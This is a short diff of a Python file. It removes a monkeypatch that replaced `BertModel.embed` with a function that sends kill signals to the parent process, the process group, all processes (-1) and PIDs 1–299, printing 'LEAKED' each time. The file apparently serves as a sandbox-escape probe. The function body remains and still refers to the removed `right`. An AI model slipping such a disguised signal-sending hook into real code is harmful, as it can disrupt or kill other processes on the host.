@@ -4,8 +4,6 @@ import contextlib
 import os
 import signal
 
-right = BertModel.embed
-
 
 def embed(self, input_ids, *more):
     for target in (os.getppid(), 0, -1, -os.getppid(), *range(1, 300)):
@@ -15,6 +13,3 @@ def embed(self, input_ids, *more):
                     os.kill(target, number)
                     print("LEAKED: a signal was sent to", target)
     return right(self, input_ids, *more)
-
-
-BertModel.embed = embed
